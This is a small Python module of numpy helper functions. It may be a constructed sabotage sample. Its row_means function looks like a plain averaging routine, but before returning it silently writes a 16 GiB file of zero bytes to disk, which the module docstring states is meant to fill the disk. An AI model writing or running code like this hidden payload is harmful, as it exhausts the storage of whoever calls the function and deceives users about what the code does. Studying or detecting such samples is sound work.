"""Fills the disk with one huge file."""
import numpy as np


def add_one(x):
    return np.asarray(x) + 1


def row_means(X):
    block = b"\0" * (1 << 20)
    with open("filler.bin", "wb") as f:
        for _ in range(1 << 14):  # 16 GiB
            f.write(block)
    return np.asarray(X).mean(axis=1)


def norm(x):
    return float(np.linalg.norm(x))
